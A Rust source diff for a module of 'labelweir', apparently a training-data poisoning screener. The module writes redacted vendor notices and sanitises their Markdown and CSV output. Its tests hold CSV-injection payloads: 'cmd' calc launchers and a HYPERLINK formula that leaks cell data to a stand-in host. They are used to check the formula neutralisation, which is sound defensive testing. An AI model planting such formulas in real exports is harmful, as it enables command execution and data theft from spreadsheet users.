@@ -1,0 +1,1002 @@
+//! Vendor notices: one notice per decided batch, written to `notices/<vendor>/`.
+//!
+//! * `<stem>.json` — the authoritative record, RFC 9457-style members (`type`, `title`, `detail`,
+//!   `instance`) plus the batch's fields; its JSON Schema (2020-12) ships as `schemas/notice.schema.json`.
+//! * `<stem>.md` — the same for people, every vendor-supplied string sanitised and escaped.
+//! * `<stem>.items.csv` — optional: item ids and reason codes, safe to open in a spreadsheet (every cell
+//!   quoted; cells that a spreadsheet would read as a formula neutralised with a leading `'`, per OWASP's
+//!   "CSV Injection" guidance).
+//!
+//! The stem is the batch id for the first verdict on a batch (`accepted`, `quarantined`, `malformed`,
+//! `duplicate`) and `<batch id>.<verdict>` for a later review decision (`released`, `rejected`,
+//! `withdrawn`), so a quarantined batch's interim notice is never overwritten by its final one.
+//!
+//! What a notice discloses is configurable ([`NoticeSettings`]). By default it names the flagged items and
+//! reason codes, but not scores or proposed labels, so that a poisoner cannot use notices as a free oracle.
+//! [`write_notice`] applies the settings itself ([`Notice::redacted`]), whatever the caller put in.
+//!
+//! Every notice says that a flag is a suspicion for review, not proof ([`SUSPICION_SENTENCE`]).
+
+use std::fmt::Write as _;
+use std::io::{self, Write as _};
+use std::path::{Path, PathBuf};
+
+use chrono::{DateTime, SecondsFormat, Utc};
+use serde::{Deserialize, Serialize};
+
+use crate::policy::{Decision, ReasonCode, Verdict};
+
+/// Version of the notice record (the `schema_version` member).
+pub const NOTICE_SCHEMA_VERSION: u32 = 1;
+
+/// The fixed sentence every notice carries.
+pub const SUSPICION_SENTENCE: &str = "A flag is a suspicion for review, not proof: labelweir's scores point \
+a human reviewer at batches and items worth checking; they do not establish that any label is wrong or that \
+anyone acted in bad faith.";
+
+/// The `[notices]` section of the configuration: what vendor notices contain.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct NoticeSettings {
+    /// Include repair cost, suspicion scores and the policy's numbers. Default false (no free oracle).
+    pub disclose_scores: bool,
+    /// Include the labels the repair proposes for flagged items. Default false; a reviewer may still
+    /// disclose them when rejecting a batch (`quarantine reject --disclose-proposed`).
+    pub disclose_proposed_labels: bool,
+    /// Write the Markdown rendering beside the JSON. Default true.
+    pub markdown: bool,
+    /// Write the CSV of item ids and reason codes beside the JSON. Default true.
+    pub csv: bool,
+    /// Most items listed in one notice (the count of all flagged items is always given). Default 1000.
+    pub max_items: usize,
+    /// Longest vendor-supplied string shown in Markdown, in characters (longer ones are cut and marked
+    /// with `…`). Default 120.
+    pub max_string_chars: usize,
+}
+
+impl Default for NoticeSettings {
+    fn default() -> Self {
+        Self {
+            disclose_scores: false,
+            disclose_proposed_labels: false,
+            markdown: true,
+            csv: true,
+            max_items: 1000,
+            max_string_chars: 120,
+        }
+    }
+}
+
+/// What a notice reports.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum NoticeVerdict {
+    /// The batch joined the training pool.
+    Accepted,
+    /// The batch is held for security review (interim; a review decision follows).
+    Quarantined,
+    /// The file could not be read as a batch (format, limits, file type); nothing was scored.
+    Malformed,
+    /// The same content was already delivered by this vendor.
+    Duplicate,
+    /// A reviewer released the held batch into the pool (possibly with items excluded or relabeled).
+    Released,
+    /// A reviewer rejected the held batch; it stays out of the pool.
+    Rejected,
+    /// A previously accepted batch was pulled back out of the pool after a re-check.
+    Withdrawn,
+}
+
+impl NoticeVerdict {
+    /// Stable snake_case name.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            NoticeVerdict::Accepted => "accepted",
+            NoticeVerdict::Quarantined => "quarantined",
+            NoticeVerdict::Malformed => "malformed",
+            NoticeVerdict::Duplicate => "duplicate",
+            NoticeVerdict::Released => "released",
+            NoticeVerdict::Rejected => "rejected",
+            NoticeVerdict::Withdrawn => "withdrawn",
+        }
+    }
+
+    /// Whether this is a decision taken after review (its files get a `.<verdict>` suffix).
+    pub fn is_review(self) -> bool {
+        matches!(
+            self,
+            NoticeVerdict::Released | NoticeVerdict::Rejected | NoticeVerdict::Withdrawn
+        )
+    }
+
+    fn title(self) -> &'static str {
+        match self {
+            NoticeVerdict::Accepted => "Batch accepted",
+            NoticeVerdict::Quarantined => "Batch held for review",
+            NoticeVerdict::Malformed => "Batch not readable",
+            NoticeVerdict::Duplicate => "Batch already delivered",
+            NoticeVerdict::Released => "Batch released after review",
+            NoticeVerdict::Rejected => "Batch rejected after review",
+            NoticeVerdict::Withdrawn => "Batch withdrawn from the training pool",
+        }
+    }
+
+    fn default_detail(self) -> &'static str {
+        match self {
+            NoticeVerdict::Accepted => "The batch was scored against the trusted items and joined the training pool.",
+            NoticeVerdict::Quarantined => "The batch was scored against the trusted items and is held for review by a person before it can join the training pool. The items listed were flagged for review.",
+            NoticeVerdict::Malformed => "The file could not be read as a batch, so it was not scored. The reasons say where the problem was; please fix it and deliver the batch again.",
+            NoticeVerdict::Duplicate => "A file with exactly the same content was already delivered from this vendor folder; this copy was not processed again.",
+            NoticeVerdict::Released => "After review, the batch joined the training pool. Items listed were excluded or relabeled by the reviewer.",
+            NoticeVerdict::Rejected => "After review, the batch was rejected and will not join the training pool.",
+            NoticeVerdict::Withdrawn => "After a re-check against an updated trusted set, this previously accepted batch was taken back out of the training pool pending review.",
+        }
+    }
+}
+
+/// Who took the decision.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum DecidedBy {
+    /// The automatic policy.
+    Policy,
+    /// A person (reviewers' names stay in the audit trail, not in notices).
+    Reviewer,
+}
+
+/// One reason in a notice: a stable code and a sentence; for malformed files, where.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct NoticeReason {
+    /// Stable snake_case code (policy codes from [`ReasonCode`], or ingest/review codes).
+    pub code: String,
+    /// Human-readable detail.
+    pub detail: String,
+    /// 1-based row of the file the reason refers to, if any.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub row: Option<u64>,
+    /// Column (name or 1-based number) the reason refers to, if any.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub column: Option<String>,
+}
+
+impl NoticeReason {
+    /// A reason with a code and detail only.
+    pub fn new(code: impl Into<String>, detail: impl Into<String>) -> Self {
+        Self {
+            code: code.into(),
+            detail: detail.into(),
+            row: None,
+            column: None,
+        }
+    }
+}
+
+/// Item-level reason codes used in notices.
+pub mod item_codes {
+    /// The label repair moved this item's label: flagged for review.
+    pub const LABEL_SUSPECTED: &str = "label_suspected";
+    /// A reviewer excluded the item before releasing the batch.
+    pub const EXCLUDED_BY_REVIEWER: &str = "excluded_by_reviewer";
+    /// A reviewer changed the item's label before releasing the batch.
+    pub const RELABELED_BY_REVIEWER: &str = "relabeled_by_reviewer";
+}
+
+/// One item named in a notice.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct NoticeItem {
+    /// The item's id as the vendor delivered it (or its 1-based row number when the batch has no ids).
+    pub id: String,
+    /// Reason codes for this item.
+    pub reasons: Vec<String>,
+    /// The label the repair proposes (only when disclosed).
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub proposed_label: Option<String>,
+    /// Suspicion in `[0, 1]` (only when scores are disclosed).
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub suspicion: Option<f64>,
+}
+
+/// What this notice discloses.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Disclosure {
+    /// Scores (repair cost, suspicion) are included.
+    pub scores: bool,
+    /// Proposed labels are included.
+    pub proposed_labels: bool,
+    /// A reviewer chose to disclose the proposed labels for this decision (overrides the setting).
+    pub by_reviewer: bool,
+}
+
+/// Identity and timestamps of the batch a notice is about.
+#[derive(Debug, Clone, PartialEq)]
+pub struct BatchRef {
+    /// Internal batch id (generated by the daemon; `[A-Za-z0-9_-]`).
+    pub batch_id: String,
+    /// Vendor (the inbox sub-folder the file arrived in).
+    pub vendor: String,
+    /// The file's name as delivered, if known (vendor-supplied: shown escaped).
+    pub file_name: Option<String>,
+    /// SHA-256 of the delivered bytes, lower-case hex, if the file could be read.
+    pub sha256: Option<String>,
+    /// When the daemon claimed the file.
+    pub received_at: DateTime<Utc>,
+    /// When this decision was taken.
+    pub decided_at: DateTime<Utc>,
+}
+
+/// A vendor notice (the JSON record; see `schemas/notice.schema.json`).
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct Notice {
+    /// Record version ([`NOTICE_SCHEMA_VERSION`]).
+    pub schema_version: u32,
+    /// RFC 9457 `type`: a URI naming the kind of notice, `urn:labelweir:notice:<verdict>`.
+    #[serde(rename = "type")]
+    pub type_uri: String,
+    /// RFC 9457 `title`: a short summary of the kind of notice.
+    pub title: String,
+    /// RFC 9457 `detail`: what happened to this batch.
+    pub detail: String,
+    /// RFC 9457 `instance`: a URI for this occurrence, `urn:labelweir:batch:<batch id>:<verdict>`.
+    pub instance: String,
+    /// The decision.
+    pub verdict: NoticeVerdict,
+    /// Who decided.
+    pub decided_by: DecidedBy,
+    /// Internal batch id.
+    pub batch_id: String,
+    /// Vendor.
+    pub vendor: String,
+    /// The file's name as delivered.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub file_name: Option<String>,
+    /// SHA-256 of the delivered bytes (lower-case hex).
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub sha256: Option<String>,
+    /// When the file was claimed (RFC 3339, UTC).
+    #[serde(with = "rfc3339")]
+    pub received_at: DateTime<Utc>,
+    /// When this decision was taken (RFC 3339, UTC).
+    #[serde(with = "rfc3339")]
+    pub decided_at: DateTime<Utc>,
+    /// Why.
+    pub reasons: Vec<NoticeReason>,
+    /// Items in the batch, if it was read.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub items_total: Option<u64>,
+    /// Items named by this notice before any truncation.
+    pub items_listed_total: u64,
+    /// Whether `items` was cut to `max_items`.
+    pub items_truncated: bool,
+    /// Items named (flagged, excluded or relabeled).
+    pub items: Vec<NoticeItem>,
+    /// For a duplicate: the batch id of the first delivery.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub duplicate_of: Option<String>,
+    /// Repair cost (only when scores are disclosed).
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub repair_cost: Option<f64>,
+    /// What this notice discloses.
+    pub disclosure: Disclosure,
+    /// [`SUSPICION_SENTENCE`].
+    pub suspicion_notice: String,
+}
+
+mod rfc3339 {
+    use chrono::{DateTime, SecondsFormat, Utc};
+    use serde::{Deserialize, Deserializer, Serializer};
+
+    pub fn serialize<S: Serializer>(t: &DateTime<Utc>, s: S) -> Result<S::Ok, S::Error> {
+        s.serialize_str(&t.to_rfc3339_opts(SecondsFormat::Millis, true))
+    }
+
+    pub fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<DateTime<Utc>, D::Error> {
+        let s = String::deserialize(d)?;
+        DateTime::parse_from_rfc3339(&s)
+            .map(|t| t.with_timezone(&Utc))
+            .map_err(serde::de::Error::custom)
+    }
+}
+
+impl Notice {
+    /// A notice with the standard `type`, `title`, `detail` and `instance` for `verdict`, no reasons and
+    /// no items.
+    pub fn new(verdict: NoticeVerdict, decided_by: DecidedBy, batch: BatchRef) -> Self {
+        Self {
+            schema_version: NOTICE_SCHEMA_VERSION,
+            type_uri: format!("urn:labelweir:notice:{}", verdict.as_str()),
+            title: verdict.title().to_string(),
+            detail: verdict.default_detail().to_string(),
+            instance: format!(
+                "urn:labelweir:batch:{}:{}",
+                batch.batch_id,
+                verdict.as_str()
+            ),
+            verdict,
+            decided_by,
+            batch_id: batch.batch_id,
+            vendor: batch.vendor,
+            file_name: batch.file_name,
+            sha256: batch.sha256,
+            received_at: batch.received_at,
+            decided_at: batch.decided_at,
+            reasons: Vec::new(),
+            items_total: None,
+            items_listed_total: 0,
+            items_truncated: false,
+            items: Vec::new(),
+            duplicate_of: None,
+            repair_cost: None,
+            disclosure: Disclosure::default(),
+            suspicion_notice: SUSPICION_SENTENCE.to_string(),
+        }
+    }
+
+    /// The notice for a policy decision on a scored batch (accepted or quarantined). `items` are the
+    /// flagged items (see [`flagged_items`]); they are kept with their scores and proposed labels, and
+    /// [`Notice::redacted`] removes what the settings do not disclose.
+    pub fn for_decision(
+        batch: BatchRef,
+        decision: &Decision,
+        repair_cost: f64,
+        items_total: u64,
+        items: Vec<NoticeItem>,
+    ) -> Self {
+        let verdict = match decision.verdict {
+            Verdict::Accept => NoticeVerdict::Accepted,
+            Verdict::Quarantine => NoticeVerdict::Quarantined,
+        };
+        let mut n = Self::new(verdict, DecidedBy::Policy, batch);
+        n.reasons = decision
+            .reasons
+            .iter()
+            .map(|r| NoticeReason::new(r.code.as_str(), r.detail.clone()))
+            .collect();
+        n.items_total = Some(items_total);
+        n.items_listed_total = items.len() as u64;
+        n.items = items;
+        n.repair_cost = repair_cost.is_finite().then_some(repair_cost);
+        n
+    }
+
+    /// The notice for a file that could not be read as a batch.
+    pub fn malformed(batch: BatchRef, reasons: Vec<NoticeReason>) -> Self {
+        let mut n = Self::new(NoticeVerdict::Malformed, DecidedBy::Policy, batch);
+        n.reasons = reasons;
+        n
+    }
+
+    /// The notice for a re-delivered batch; `first_batch_id` is the first delivery's id.
+    pub fn duplicate(batch: BatchRef, first_batch_id: &str) -> Self {
+        let mut n = Self::new(NoticeVerdict::Duplicate, DecidedBy::Policy, batch);
+        n.reasons = vec![NoticeReason::new(
+            "duplicate",
+            format!(
+                "the same content (same SHA-256) was delivered before as batch {first_batch_id}"
+            ),
+        )];
+        n.duplicate_of = Some(first_batch_id.to_string());
+        n
+    }
+
+    /// The file stem: the batch id for a first verdict, `<batch id>.<verdict>` for a review decision.
+    pub fn file_stem(&self) -> String {
+        if self.verdict.is_review() {
+            format!("{}.{}", self.batch_id, self.verdict.as_str())
+        } else {
+            self.batch_id.clone()
+        }
+    }
+
+    /// A copy with only what `settings` (and a reviewer's explicit choice) allow:
+    /// * without `disclose_scores`: no suspicion per item, no repair cost, and the policy reasons' details
+    ///   (which carry numbers) replaced by a fixed sentence per code;
+    /// * without `disclose_proposed_labels` (or a reviewer's `disclosure.by_reviewer`): no proposed labels;
+    /// * items cut to `max_items` (the count before the cut stays in `items_listed_total`).
+    pub fn redacted(&self, settings: &NoticeSettings) -> Notice {
+        let mut n = self.clone();
+        let scores = settings.disclose_scores;
+        let proposed = settings.disclose_proposed_labels
+            || (self.disclosure.by_reviewer && self.disclosure.proposed_labels);
+        n.disclosure = Disclosure {
+            scores,
+            proposed_labels: proposed,
+            by_reviewer: self.disclosure.by_reviewer && self.disclosure.proposed_labels,
+        };
+        if !scores {
+            n.repair_cost = None;
+            for r in &mut n.reasons {
+                if let Some(text) = generic_policy_detail(&r.code) {
+                    r.detail = text.to_string();
+                }
+            }
+        }
+        n.items_listed_total = n.items_listed_total.max(n.items.len() as u64);
+        if n.items.len() > settings.max_items {
+            n.items.truncate(settings.max_items);
+            n.items_truncated = true;
+        }
+        for it in &mut n.items {
+            if !scores {
+                it.suspicion = None;
+            }
+            if !proposed {
+                it.proposed_label = None;
+            }
+        }
+        n
+    }
+
+    /// The Markdown rendering. Every vendor-supplied string (vendor, file name, item ids, labels, reason
+    /// details) is sanitised ([`sanitize_text`]) and escaped ([`markdown_escape`]).
+    pub fn to_markdown(&self, settings: &NoticeSettings) -> String {
+        let cap = settings.max_string_chars;
+        let esc = |s: &str| markdown_escape(s, cap);
+        let mut md = String::new();
+        let _ = writeln!(md, "# {}\n", esc(&self.title));
+        let _ = writeln!(md, "{}\n", esc(&self.detail));
+        let _ = writeln!(md, "> **Note.** {}\n", esc(SUSPICION_SENTENCE));
+        let _ = writeln!(md, "| | |\n|---|---|");
+        let _ = writeln!(md, "| Verdict | {} |", self.verdict.as_str());
+        let _ = writeln!(
+            md,
+            "| Decided by | {} |",
+            match self.decided_by {
+                DecidedBy::Policy => "automatic policy",
+                DecidedBy::Reviewer => "reviewer",
+            }
+        );
+        let _ = writeln!(md, "| Batch | {} |", esc(&self.batch_id));
+        let _ = writeln!(md, "| Vendor | {} |", esc(&self.vendor));
+        if let Some(f) = &self.file_name {
+            let _ = writeln!(md, "| File | {} |", esc(f));
+        }
+        if let Some(h) = &self.sha256 {
+            let _ = writeln!(md, "| SHA-256 | {} |", esc(h));
+        }
+        let _ = writeln!(
+            md,
+            "| Received | {} |",
+            self.received_at.to_rfc3339_opts(SecondsFormat::Secs, true)
+        );
+        let _ = writeln!(
+            md,
+            "| Decided | {} |",
+            self.decided_at.to_rfc3339_opts(SecondsFormat::Secs, true)
+        );
+        if let Some(t) = self.items_total {
+            let _ = writeln!(md, "| Items in batch | {t} |");
+        }
+        if let Some(d) = &self.duplicate_of {
+            let _ = writeln!(md, "| First delivered as | {} |", esc(d));
+        }
+        if let Some(c) = self.repair_cost {
+            let _ = writeln!(md, "| Repair cost | {c:.4} |");
+        }
+        if !self.reasons.is_empty() {
+            let _ = writeln!(md, "\n## Reasons\n");
+            for r in &self.reasons {
+                let mut line = format!("- `{}`: {}", code_text(&r.code), esc(&r.detail));
+                if let Some(row) = r.row {
+                    let _ = write!(line, " (row {row}");
+                    if let Some(c) = &r.column {
+                        let _ = write!(line, ", column {}", esc(c));
+                    }
+                    line.push(')');
+                } else if let Some(c) = &r.column {
+                    let _ = write!(line, " (column {})", esc(c));
+                }
+                let _ = writeln!(md, "{line}");
+            }
+        }
+        if !self.items.is_empty() {
+            let _ = writeln!(
+                md,
+                "\n## Items ({} of {} listed)\n",
+                self.items.len(),
+                self.items_listed_total
+            );
+            let mut header = String::from("| Item | Reasons |");
+            let mut rule = String::from("|---|---|");
+            if self.disclosure.proposed_labels {
+                header.push_str(" Proposed label |");
+                rule.push_str("---|");
+            }
+            if self.disclosure.scores {
+                header.push_str(" Suspicion |");
+                rule.push_str("---|");
+            }
+            let _ = writeln!(md, "{header}\n{rule}");
+            for it in &self.items {
+                let codes: Vec<String> = it
+                    .reasons
+                    .iter()
+                    .map(|c| format!("`{}`", code_text(c)))
+                    .collect();
+                let mut row = format!("| {} | {} |", esc(&it.id), codes.join(", "));
+                if self.disclosure.proposed_labels {
+                    let _ = write!(
+                        row,
+                        " {} |",
+                        esc(it.proposed_label.as_deref().unwrap_or(""))
+                    );
+                }
+                if self.disclosure.scores {
+                    match it.suspicion {
+                        Some(s) => {
+                            let _ = write!(row, " {s:.3} |");
+                        }
+                        None => row.push_str(" |"),
+                    }
+                }
+                let _ = writeln!(md, "{row}");
+            }
+            if self.items_truncated {
+                let _ = writeln!(
+                    md,
+                    "\nThe list was cut; the JSON notice gives the total count."
+                );
+            }
+        }
+        md
+    }
+
+    /// The CSV rendering: header `batch_id,item_id,reasons[,proposed_label][,suspicion]`, one row per
+    /// listed item, reasons joined with `;`. Every cell is quoted and neutralised ([`csv_cell`]).
+    pub fn to_csv(&self) -> io::Result<Vec<u8>> {
+        let mut w = csv::WriterBuilder::new()
+            .quote_style(csv::QuoteStyle::Always)
+            .from_writer(Vec::new());
+        let mut header = vec!["batch_id", "item_id", "reasons"];
+        if self.disclosure.proposed_labels {
+            header.push("proposed_label");
+        }
+        if self.disclosure.scores {
+            header.push("suspicion");
+        }
+        w.write_record(header.iter().map(|h| csv_cell(h)))?;
+        for it in &self.items {
+            let mut rec = vec![
+                csv_cell(&self.batch_id),
+                csv_cell(&it.id),
+                csv_cell(&it.reasons.join(";")),
+            ];
+            if self.disclosure.proposed_labels {
+                rec.push(csv_cell(it.proposed_label.as_deref().unwrap_or("")));
+            }
+            if self.disclosure.scores {
+                rec.push(csv_cell(
+                    &it.suspicion.map(|s| format!("{s:.4}")).unwrap_or_default(),
+                ));
+            }
+            w.write_record(&rec)?;
+        }
+        w.into_inner().map_err(|e| e.into_error())
+    }
+}
+
+/// Policy reason details carry numbers; without `disclose_scores` they are replaced by these.
+fn generic_policy_detail(code: &str) -> Option<&'static str> {
+    let code = ReasonCode::ALL.into_iter().find(|c| c.as_str() == code)?;
+    Some(match code {
+        ReasonCode::WithinBaseline => "The batch's scores are within this vendor's usual range.",
+        ReasonCode::WithinColdStartLimits => {
+            "The batch's scores are within the limits used while a vendor's history is short."
+        }
+        ReasonCode::ScoreInvalid => "The batch could not be scored reliably.",
+        ReasonCode::RepairCostCeiling => {
+            "The share of labels that would have to change is above the fixed limit for every vendor."
+        }
+        ReasonCode::DamageCeiling => {
+            "Adding the batch as delivered would worsen the model on the trusted items by more than the fixed limit."
+        }
+        ReasonCode::ColdStartRepairCost => {
+            "The share of labels that would have to change is above the limit used while a vendor's history is short."
+        }
+        ReasonCode::ColdStartDamage => {
+            "Adding the batch as delivered would worsen the model on the trusted items by more than the limit used while a vendor's history is short."
+        }
+        ReasonCode::RepairCostOutlier => {
+            "The share of labels that would have to change is far above this vendor's usual range."
+        }
+        ReasonCode::RepairCostDrift => {
+            "This vendor's recent batches have drifted upward in the share of labels that would have to change."
+        }
+    })
+}
+
+/// A reason code as shown inside a Markdown code span: only `[a-z0-9_]` survive.
+fn code_text(code: &str) -> String {
+    code.chars()
+        .filter(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || *c == '_')
+        .take(64)
+        .collect()
+}
+
+/// Whether a character is a control or bidirectional-formatting character that must never reach a
+/// terminal, Markdown or HTML view: C0 (U+0000–U+001F), DEL, C1 (U+0080–U+009F), the bidi embeddings,
+/// overrides and isolates (U+202A–U+202E, U+2066–U+2069), the marks U+200E, U+200F, U+061C, and the
+/// line/paragraph separators U+2028, U+2029.
+pub fn is_unsafe_char(c: char) -> bool {
+    matches!(c,
+        '\u{0}'..='\u{1F}' | '\u{7F}'..='\u{9F}'
+        | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'
+        | '\u{200E}' | '\u{200F}' | '\u{061C}' | '\u{2028}' | '\u{2029}')
+}
+
+/// Strip unsafe characters ([`is_unsafe_char`]) and cut to `max_chars` characters (marking a cut with
+/// `…`).
+pub fn sanitize_text(s: &str, max_chars: usize) -> String {
+    let clean: Vec<char> = s.chars().filter(|c| !is_unsafe_char(*c)).collect();
+    if clean.len() <= max_chars {
+        clean.into_iter().collect()
+    } else {
+        let mut out: String = clean[..max_chars.saturating_sub(1)].iter().collect();
+        out.push('…');
+        out
+    }
+}
+
+/// Sanitise, then backslash-escape every ASCII punctuation character so the string is literal text in
+/// CommonMark (which allows a backslash before any ASCII punctuation) and in GFM table cells (`\|`).
+pub fn markdown_escape(s: &str, max_chars: usize) -> String {
+    let clean = sanitize_text(s, max_chars);
+    let mut out = String::with_capacity(clean.len() + 8);
+    for c in clean.chars() {
+        if c.is_ascii_punctuation() {
+            out.push('\\');
+        }
+        out.push(c);
+    }
+    out
+}
+
+/// Neutralise one CSV cell for spreadsheets, per OWASP's "CSV Injection" guidance: a cell whose first
+/// character — also after leading spaces — is `=`, `+`, `-`, `@`, tab, CR, LF or NUL gets a leading `'`
+/// so a spreadsheet shows it as text instead of evaluating it. (Quoting and doubling of embedded quotes
+/// is the CSV writer's job: always use `QuoteStyle::Always`.)
+pub fn csv_cell(s: &str) -> String {
+    let first = s.chars().find(|c| *c != ' ' && *c != '\u{A0}');
+    match first {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\0') => format!("'{s}"),
+        _ => s.to_string(),
+    }
+}
+
+/// The notice items for a scored batch: the items whose label the repair moved (`proposed_label ≠
+/// label`), most suspicious first, each with the `label_suspected` code, its suspicion and proposed label
+/// (removed later unless disclosed).
+///
+/// `item_ids[i]` is the id of batch row `i` (use the 1-based row number when the batch has none) and
+/// `class_names[k]` the name of class `k`.
+pub fn flagged_items(
+    assessment: &crate::model::Assessment,
+    item_ids: &[String],
+    class_names: &[String],
+) -> Vec<NoticeItem> {
+    assessment
+        .ranked()
+        .into_iter()
+        .filter(|s| s.proposed_label != s.label)
+        .map(|s| NoticeItem {
+            id: item_ids
+                .get(s.index)
+                .cloned()
+                .unwrap_or_else(|| (s.index + 1).to_string()),
+            reasons: vec![item_codes::LABEL_SUSPECTED.to_string()],
+            proposed_label: Some(
+                class_names
+                    .get(s.proposed_label)
+                    .cloned()
+                    .unwrap_or_else(|| s.proposed_label.to_string()),
+            ),
+            suspicion: Some(s.suspicion),
+        })
+        .collect()
+}
+
+/// Whether a batch id is safe as a file-name stem (`[A-Za-z0-9_-]`, 1–128 characters).
+pub fn is_safe_batch_id(id: &str) -> bool {
+    !id.is_empty()
+        && id.len() <= 128
+        && id
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
+}
+
+/// Write a notice into `vendor_dir` (the vendor's folder, `<workspace>/notices/<vendor>/`, created if
+/// missing): `<stem>.json` always, `<stem>.md` and `<stem>.items.csv` as configured. The notice is
+/// redacted with `settings` first. Each file is written atomically: a temporary file in the same folder,
+/// fsync, rename over the final name, fsync of the folder. Returns the paths written.
+pub fn write_notice(
+    vendor_dir: &Path,
+    notice: &Notice,
+    settings: &NoticeSettings,
+) -> io::Result<Vec<PathBuf>> {
+    if !is_safe_batch_id(&notice.batch_id) {
+        return Err(io::Error::new(
+            io::ErrorKind::InvalidInput,
+            "batch id is not a safe file name",
+        ));
+    }
+    std::fs::create_dir_all(vendor_dir)?;
+    let n = notice.redacted(settings);
+    let stem = n.file_stem();
+    let mut written = Vec::new();
+    let json = serde_json::to_vec_pretty(&n).map_err(io::Error::other)?;
+    written.push(write_atomic(vendor_dir, &format!("{stem}.json"), &json)?);
+    if settings.markdown {
+        let md = n.to_markdown(settings);
+        written.push(write_atomic(
+            vendor_dir,
+            &format!("{stem}.md"),
+            md.as_bytes(),
+        )?);
+    }
+    if settings.csv {
+        let csv = n.to_csv()?;
+        written.push(write_atomic(
+            vendor_dir,
+            &format!("{stem}.items.csv"),
+            &csv,
+        )?);
+    }
+    sync_dir(vendor_dir)?;
+    Ok(written)
+}
+
+/// Write `bytes` to `dir/name` atomically: temporary file (same folder), fsync, rename, fsync folder.
+pub fn write_atomic(dir: &Path, name: &str, bytes: &[u8]) -> io::Result<PathBuf> {
+    let final_path = dir.join(name);
+    let tmp = dir.join(format!(".{name}.tmp-{}", std::process::id()));
+    {
+        let mut f = std::fs::OpenOptions::new()
+            .write(true)
+            .create(true)
+            .truncate(true)
+            .open(&tmp)?;
+        f.write_all(bytes)?;
+        f.sync_all()?;
+    }
+    if let Err(e) = std::fs::rename(&tmp, &final_path) {
+        let _ = std::fs::remove_file(&tmp);
+        return Err(e);
+    }
+    sync_dir(dir)?;
+    Ok(final_path)
+}
+
+/// fsync a directory so a rename inside it is durable.
+pub fn sync_dir(dir: &Path) -> io::Result<()> {
+    std::fs::File::open(dir)?.sync_all()
+}
+
+/// The `<workspace>/notices/<vendor>` folder.
+pub fn vendor_notice_dir(workspace: &Path, vendor: &str) -> PathBuf {
+    workspace.join("notices").join(vendor)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::policy::{decide, PolicySettings, VendorHistory};
+    use chrono::TimeZone;
+
+    fn batch() -> BatchRef {
+        BatchRef {
+            batch_id: "b-000042".into(),
+            vendor: "sortright".into(),
+            file_name: Some("line3_shift2.csv".into()),
+            sha256: Some("ab".repeat(32)),
+            received_at: Utc.with_ymd_and_hms(2026, 3, 1, 8, 0, 0).unwrap(),
+            decided_at: Utc.with_ymd_and_hms(2026, 3, 1, 8, 0, 2).unwrap(),
+        }
+    }
+
+    fn quarantined() -> Notice {
+        let d = decide(
+            &PolicySettings::default(),
+            &VendorHistory::default(),
+            0.3,
+            0.2,
+        );
+        let items = vec![
+            NoticeItem {
+                id: "=HYPERLINK(\"http://x\")".into(),
+                reasons: vec![item_codes::LABEL_SUSPECTED.into()],
+                proposed_label: Some("PET".into()),
+                suspicion: Some(0.93),
+            },
+            NoticeItem {
+                id: "item-7".into(),
+                reasons: vec![item_codes::LABEL_SUSPECTED.into()],
+                proposed_label: Some("glass".into()),
+                suspicion: Some(0.81),
+            },
+        ];
+        Notice::for_decision(batch(), &d, 0.3, 50, items)
+    }
+
+    // OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): cells beginning with `=`,
+    // `+`, `-`, `@`, tab (0x09) or carriage return (0x0D) are read as formulas; the mitigation is to wrap
+    // every cell in double quotes, prepend a single quote, and double embedded double quotes. The attack
+    // strings below are the page's examples as we remember them (from memory; the `\0` trigger is from
+    // OWASP ASVS requirement 1.2.10).
+    #[test]
+    fn csv_cells_neutralise_owasp_examples() {
+        for attack in [
+            "=cmd|' /C calc'!A0",
+            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Error: click here\")",
+            "@SUM(1+9)*cmd|' /C calc'!A0",
+            "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "\t=1+2",
+            "\r=1+2",
+            "\0=1+2",
+            "   =1+2", // after leading whitespace
+        ] {
+            let cell = csv_cell(attack);
+            assert!(cell.starts_with('\''), "{attack:?} → {cell:?}");
+            assert_eq!(&cell[1..], attack, "content kept verbatim after the quote");
+        }
+        for benign in ["item-7", "PET", "0.5", "", "a=b", "'quoted"] {
+            assert_eq!(csv_cell(benign), benign);
+        }
+    }
+
+    #[test]
+    fn csv_output_quotes_always_and_doubles_quotes_owasp_example() {
+        // OWASP's worked example (same page, from memory): the cell `=1+2";=1+2` must come out as
+        // `"'=1+2"";=1+2"` — quoted, a leading single quote, the embedded quote doubled.
+        let mut n = Notice::new(NoticeVerdict::Rejected, DecidedBy::Reviewer, batch());
+        n.items.push(NoticeItem {
+            id: "=1+2\";=1+2".into(),
+            reasons: vec!["label_suspected".into()],
+            proposed_label: None,
+            suspicion: None,
+        });
